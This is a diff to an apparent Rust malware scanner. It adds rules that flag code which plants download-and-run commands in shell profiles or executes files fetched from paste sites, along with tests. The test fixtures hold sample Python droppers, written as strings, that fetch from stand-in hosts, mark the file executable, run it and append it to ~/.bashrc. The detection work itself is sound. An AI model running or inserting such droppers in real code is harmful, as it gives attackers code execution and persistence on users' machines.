@@ -135,6 +135,16 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.55,
     },
     Combination {
+        id: "combo:persistence-dropper",
+        description: "one function plants a download-and-run command, or a fetched file it made executable, in a shell profile or autostart location",
+        weight: 0.5,
+    },
+    Combination {
+        id: "combo:staged-and-run",
+        description: "one function fetches from a paste site, file host or raw IP and starts a process or executes code",
+        weight: 0.45,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -293,6 +303,45 @@ fn combination_evidence<'f>(
             })?;
             findings.iter().find(|f| f.has_tag("net-send"))?;
             Some((steal, endpoint))
+        }
+        "combo:persistence-dropper" => {
+            // Installers add `export PATH=…` to a profile; a dropper command planted there runs
+            // at every login, so writing one is persistence whoever calls the function.
+            let same_function = |a: &Finding, b: &Finding| a.scope == b.scope && a.path == b.path;
+            let planted = |f: &Finding| {
+                f.context != ExecContext::TestOrDocs
+                    && (f.has_tag("drop-command")
+                        // `urlopen(IP)` saved, `chmod +x`'d and appended to `.bashrc`.
+                        || f.has_tag("chmod-exec")
+                            && f.scope != 0
+                            && findings
+                                .iter()
+                                .any(|r| r.has_tag("net-fetch") && same_function(r, f)))
+            };
+            let drop = strongest(findings, planted)?;
+            let target = strongest(findings, |f| {
+                f.has_tag("autostart") && same_function(f, drop)
+            })?;
+            Some((drop, target))
+        }
+        "combo:staged-and-run" => {
+            // `requests.get(pastebin/raw/…)` saved and started: a second stage whoever calls it.
+            let same_function = |a: &Finding, b: &Finding| a.scope == b.scope && a.path == b.path;
+            let endpoint = strongest(findings, |f| {
+                f.rule == "WH160"
+                    && f.severity >= 0.15
+                    // Installer URLs have their own combinations, which check what is fetched.
+                    && !f.message.contains("executable")
+                    && f.scope != 0
+                    && f.context != ExecContext::TestOrDocs
+                    && findings
+                        .iter()
+                        .any(|r| r.has_tag("net-fetch") && same_function(r, f))
+            })?;
+            let run = strongest(findings, |f| {
+                matches!(f.rule, "WH120" | "WH110") && same_function(f, endpoint)
+            })?;
+            Some((endpoint, run))
         }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
@@ -497,6 +546,37 @@ mod tests {
         let client = "import os, requests\ndef connect(host):\n    cfg = open(os.path.expanduser('~/.ssh/config')).read()\n    requests.post('https://' + host + '/api', data=cfg)\n";
         let s = score("x-1/x/client.py", client);
         assert!(!has(&s, "combo:credentials-uploaded"), "{s:?}");
+    }
+
+    #[test]
+    fn a_dropper_planted_in_a_shell_profile_is_malicious() {
+        let code = "import os\ndef colors():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('wget http://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n";
+        let s = score("pkg/colors.py", code);
+        assert!(has(&s, "combo:persistence-dropper"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
+        let path_only = "import os\ndef setup_path():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('export PATH=$HOME/.local/bin:$PATH')\n";
+        let s = score("pkg/colors.py", path_only);
+        assert!(!has(&s, "combo:persistence-dropper"), "{s:?}");
+        assert!(s.malware < 0.7, "{s:?}");
+    }
+
+    #[test]
+    fn a_function_running_what_it_fetched_from_a_paste_site_is_malicious() {
+        let code = "import os, requests\ndef update():\n    r = requests.get('https://pastebin.com/raw/abcd1234')\n    open('c.py', 'w').write(r.text)\n    os.system('python c.py')\n";
+        let s = score("pkg/pkg/up.py", code);
+        assert!(has(&s, "combo:staged-and-run"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
+        let apart = "import os, requests\ndef notes():\n    return requests.get('https://pastebin.com/raw/abcd1234').text\ndef build():\n    os.system('make')\n";
+        let s = score("pkg/pkg/up.py", apart);
+        assert!(!has(&s, "combo:staged-and-run"), "{s:?}");
+    }
+
+    #[test]
+    fn a_fetched_binary_added_to_the_shell_profile_is_malicious() {
+        let code = "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://198.51.100.7/out').read()\n    open('.drv', 'wb').write(data)\n    os.chmod('.drv', stat.S_IEXEC)\n    open(os.path.expanduser('~/.bashrc'), 'a').write('~/.drv &')\n";
+        let s = score("pkg/pkg/pr.py", code);
+        assert!(has(&s, "combo:persistence-dropper"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
     }
 
     #[test]
